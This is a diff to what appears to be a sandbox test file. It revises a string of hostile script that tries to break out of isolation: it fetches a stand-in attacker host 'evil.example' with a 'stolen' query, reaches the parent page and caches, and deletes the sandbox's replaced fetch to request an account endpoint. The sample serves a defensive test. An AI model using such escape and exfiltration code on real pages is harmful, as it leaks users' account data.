@@ -18,7 +18,6 @@ afterAll(async () => {
 const hostile = `
 const tried: Record<string, () => unknown> = {
   fetch: () => fetch('https://evil.example/?stolen'),
-  'its own server': () => fetch('/portal/v1/account'),
   XMLHttpRequest: () => new Promise((resolve, reject) => {
     const request = new XMLHttpRequest()
     request.onload = resolve
@@ -46,6 +45,11 @@ const tried: Record<string, () => unknown> = {
   }),
   caches: () => caches.keys(),
   'the page': () => (globalThis as any).parent.document,
+  // What the sandbox answers took the place of.
+  'its own server': () => {
+    delete (globalThis as any).fetch
+    return fetch(ORIGIN + '/portal/v1/account')
+  },
 }
 console.log(self.origin)
 for (const [name, attempt] of Object.entries(tried)) {
